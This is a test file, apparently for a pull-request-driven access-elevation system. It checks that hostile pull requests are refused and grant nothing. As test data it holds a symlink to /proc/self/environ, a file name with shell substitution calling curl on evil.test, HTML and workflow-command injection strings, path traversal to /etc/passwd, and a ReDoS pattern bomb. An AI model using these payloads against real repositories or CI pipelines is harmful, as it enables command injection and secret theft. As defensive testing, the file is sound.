/** Attacks by files: modes, names and numbers of them, and what the platforms say in an error; merged all the same, nothing opens. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FinishedRun } from '../../src/sandbox/demo/people.ts';
import { headStatus } from '../../src/sandbox/demo/people.ts';
import type { Entry } from './hostile-pulls.ts';
import {
  commitAs,
  expectHarmless,
  expectNoCommand,
  fileAs,
  judgeAll,
  judgedByHand,
  logsOf,
} from './hostile-pulls.ts';
import type { Scenario } from './kit.ts';
import {
  access,
  advance,
  approveAll,
  askAs,
  askApprovedAndMerged,
  comment,
  dispatch,
  events,
  logOf,
  mergeAs,
  openIssues,
  openScenario,
  verifies,
} from './kit.ts';

const NOTHING = { roles: 0, rules: 0 };
const COMMAND = '::set-output name=act::merge';
const WORKFLOW = 'on: workflow_dispatch\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: id }] } }\n';
const SOMEWHERE = { sha: 'c0ffee'.repeat(7).slice(0, 40) };

type Make = (request: string) => readonly Entry[];
const only =
  (path: string, mode = '100644'): Make =>
  (content) => [{ path, mode, content }];

/** Each with the finding on its comment; merged by an administrator without a word of anybody. */
const FILES: readonly (readonly [what: string, make: Make, finding: string])[] = [
  [
    'a symbolic link to the policy',
    () => [{ path: 'requests/link.yaml', mode: '120000', content: '../policies/people.yaml' }],
    'pull.file-mode',
  ],
  [
    'a symbolic link out of the repository',
    () => [{ path: 'requests/out.yaml', mode: '120000', content: '/proc/self/environ' }],
    'pull.file-mode',
  ],
  [
    'a submodule',
    () => [{ path: 'requests/sub.yaml', mode: '160000', content: SOMEWHERE }],
    'pull.file-mode',
  ],
  ['the executable bit', only('requests/run.yaml', '100755'), 'pull.file-mode'],
  ['a folder in other letters', only('Requests/case.yaml'), 'pull.path'],
  ['a name in other letters', only('requests/Case.yaml'), 'pull.path'],
  ['a name in one form of Unicode', only('requests/caf\u00e9.yaml'), 'pull.path'],
  ['the same name in the other form', only('requests/cafe\u0301.yaml'), 'pull.path'],
  ['a folder with a joiner in it', only('req\u200duests/a.yaml'), 'pull.path'],
  [
    'a name of two lines, of which one is a command',
    only(`requests/a\n${COMMAND}##[set-output name=act;]merge.yaml`),
    'pull.path',
  ],
  ['HTML for a name', only('requests/<img src=x onerror=alert(1)>.yaml'), 'pull.path'],
  ['a mention and a reference for a name', only('requests/@everyone closes #1.yaml'), 'pull.path'],
  ['a shell’s substitution for a name', only('requests/$(curl evil.test)`id`;x.yaml'), 'pull.path'],
  [
    'a name of 4,000 characters',
    only(`requests/${'a'.repeat(200)}/${'b/'.repeat(1_900)}x.yaml`),
    'pull.path',
  ],
  [
    'a second request beside it',
    (content) => [
      { path: 'requests/one.yaml', content },
      { path: 'requests/two.yaml', content },
    ],
    'pull.not-alone',
  ],
  [
    'a workflow beside it',
    (content) => [
      { path: 'requests/with.yaml', content },
      { path: '.github/workflows/x.yml', content: WORKFLOW },
    ],
    'pull.not-alone',
  ],
  [
    'three thousand files before it',
    (content) => [
      ...Array.from({ length: 3_000 }, (_, at) => ({ path: `bulk/${at}.txt`, content: 'x' })),
      { path: 'requests/behind.yaml', content },
    ],
    'pull.files-incomplete',
  ],
];

/** Outside `requests/`: nothing is asked, and nothing is read there. */
const ELSEWHERE: readonly (readonly [what: string, path: string])[] = [
  ['beside the folder', 'request.yaml'],
  ['in a folder of the same name', 'docs/requests/access.yaml'],
  ['in a folder with a Cyrillic letter', 'r\u0435quests/access.yaml'],
  ['in a folder with an encoded letter', '%72equests/access.yaml'],
];

describe('a pull request', () => {
  let scenario: Scenario;
  const pulls = new Map<string, number>();
  let runs: readonly FinishedRun[];
  let elevation: readonly FinishedRun[];
  let recorded: Awaited<ReturnType<typeof events>>;
  const pullOf = (what: string): number => pulls.get(what) ?? 0;

  beforeAll(async () => {
    scenario = await openScenario();
    await judgedByHand(scenario);
    const { request } = scenario.sample;
    for (const [at, [what, make]] of FILES.entries())
      pulls.set(
        what,
        await fileAs(scenario, 'alice', { branch: `alice/files-${at}`, entries: make(request) }),
      );
    for (const [at, [what, path]] of ELSEWHERE.entries())
      pulls.set(
        what,
        await fileAs(scenario, 'alice', { branch: `alice/else-${at}`, entries: only(path)(request) }),
      );
    runs = await judgeAll(scenario, [...pulls.values()]);
    for (const pull of pulls.values()) await approveAll(scenario, pull);
    await advance(scenario, '2s');
    for (const pull of pulls.values()) await mergeAs(scenario, 'erin', pull);
    elevation = await dispatch(scenario, 'elevate.yml');
    recorded = await events(scenario);
  }, 300_000);
  afterAll(() => scenario.close());

  it.each(FILES)('with %s is refused by name, and opens nothing', async (what, _make, finding) => {
    const pull = pullOf(what);
    expect(await headStatus(scenario.outside, pull)).toMatchObject({ state: 'failure' });
    const said = await comment(scenario, pull);
    expect(said).toContain(finding);
    expectHarmless(said);
    expect(recorded.filter(({ grant }) => grant === pull).map(({ type }) => type)).toEqual(['decided']);
  });

  it.each(ELSEWHERE)('with a request %s asks for nothing', async (what) => {
    const pull = pullOf(what);
    expect(await headStatus(scenario.outside, pull)).toMatchObject({
      state: 'success',
      description: 'not a request',
    });
    expect(recorded.filter(({ grant }) => grant === pull)).toEqual([]);
  });

  it('with any of these leaves nothing on the platforms and a ledger that is whole', async () => {
    expect(await access(scenario)).toEqual(NOTHING);
    expect(await verifies(scenario)).toBe(true);
  });

  it('with any of these leaves no command in the log of a run', async () => {
    expectNoCommand(await logsOf(scenario, [...runs, ...elevation]));
    // `act` would have run, had a word become an output.
    expect(runs.filter(({ workflow }) => workflow !== 'request.yml')).toEqual([]);
  });

  it('that left a strange file on main is reported in an issue whose words are words', async () => {
    const issues = (await openIssues(scenario)).filter((issue) => issue.startsWith('Denied: requests/'));
    expect(issues.length).toBeGreaterThan(0);
    for (const issue of issues) {
      const [title = '', , ...body] = issue.split('\n');
      expect(title).not.toMatch(/[\p{Cc}\p{Cf}`]/u);
      expectHarmless(body.join('\n'));
    }
  });

  it.each([
    'requests/../policies/people.yaml',
    '../outside.yaml',
    '.git/config',
    'requests/.GIT/config',
    '/etc/passwd',
    'requests//x.yaml',
  ])('with the path %s is not even taken by GitHub', async (path) => {
    const branch = `alice/${path.replaceAll(/[^a-z]/gi, '-')}`;
    const made = await commitAs(scenario, 'alice', { branch, entries: [{ path, content: 'x' }] });
    expect(made).toMatchObject({ refused: { message: 'tree.path contains a malformed path component' } });
  });

  it('that puts a link in place of the folder is refused by name', async () => {
    const entries = [
      { path: 'requests/README.md', content: null },
      { path: 'requests', mode: '120000', content: 'policies' },
    ];
    const pull = await fileAs(scenario, 'alice', { branch: 'alice/folder', entries });
    await judgeAll(scenario, [pull]);
    expect((await headStatus(scenario.outside, pull)).state).toBe('failure');
  }, 120_000);

  it.each<readonly [string, readonly Entry[]]>([
    [
      'a link in the policy',
      [{ path: 'policies/entitlements/x.yaml', mode: '120000', content: '/etc/passwd' }],
    ],
    ['a submodule in the policy', [{ path: 'policies/more', mode: '160000', content: SOMEWHERE }]],
    ['a policy nine folders deep', [{ path: `policies/${'a/'.repeat(9)}x.yaml`, content: 'x' }]],
    [
      'a policy of a thousand files',
      Array.from({ length: 1_000 }, (_, at) => ({
        path: `policies/entitlements/e${at}.yaml`,
        content: `entitlement: e${at}\n`,
      })),
    ],
    [
      'a bomb of patterns',
      Array.from({ length: 40 }, (_, at) => ({
        path: `policies/entitlements/p${at}.yaml`,
        content: `entitlement: p${at}\nparameters:\n  x: { type: text, pattern: '^((a{1,100}){1,100}){1,9${at % 10}}$', used_for: record }\n`,
      })),
    ],
  ])(
    'with %s is red in bounded time, and the judge goes on',
    async (what, entries) => {
      const pull = await fileAs(scenario, 'alice', { branch: `alice/${what.replaceAll(' ', '-')}`, entries });
      const [run] = await judgeAll(scenario, [pull]);
      expect(run?.conclusion).toBe('failure');
      expect((await headStatus(scenario.outside, pull)).state).toMatch(/failure|error/);
      expectHarmless(await comment(scenario, pull));
    },
    120_000,
  );

  it('whose merge GitHub refuses in hostile words is not merged, and the words command nobody', async () => {
    const pull = await askAs(scenario, 'refused-merge');
    await advance(scenario, '2s');
    await approveAll(scenario, pull);
    await advance(scenario, '2s');
    scenario.world.faults.order({
      api: 'github',
      method: 'PUT',
      path: '/merge$',
      when: 'before',
      effect: {
        kind: 'answer',
        status: 405,
        body: { message: `No\n${COMMAND}\n##[set-output name=x;]y\u001b[2J` },
      },
    });
    const ran = await judgeAll(scenario, [pull]);
    expect(scenario.world.faults.pending()).toEqual([]);
    const log = await logsOf(scenario, ran);
    expect(log).toContain('Not merged: No');
    expectNoCommand(log);
    expect(await access(scenario)).toEqual(NOTHING);
    await scenario.outside.gitHub('alice', 'PATCH', `/pulls/${pull}`, { state: 'closed' });
  }, 120_000);

  it('whose elevation Azure refuses in hostile words opens nothing, and the words command nobody', async () => {
    const pull = await askApprovedAndMerged(scenario, 'refused-azure');
    const message = `<img src=x> @everyone [x](https://evil.test)\n${COMMAND}\n##[error]INJECTED`;
    scenario.world.faults.order({
      api: 'arm',
      method: 'PUT',
      when: 'before',
      times: 50,
      effect: { kind: 'answer', status: 400, body: { error: { code: COMMAND, message } } },
    });
    const ran = await dispatch(scenario, 'elevate.yml').finally(() => scenario.world.faults.clear());
    const log = await logOf(scenario, ran, 'elevate.yml');
    expect(log).toContain('@everyone');
    expectNoCommand(log);
    expectHarmless(await comment(scenario, pull));
    expect(await access(scenario)).toEqual(NOTHING);
    const types = (await events(scenario)).filter(({ grant }) => grant === pull).map(({ type }) => type);
    expect(types).toEqual(expect.arrayContaining(['elevating', 'failed']));
    expect(await verifies(scenario)).toBe(true);
  }, 120_000);
});
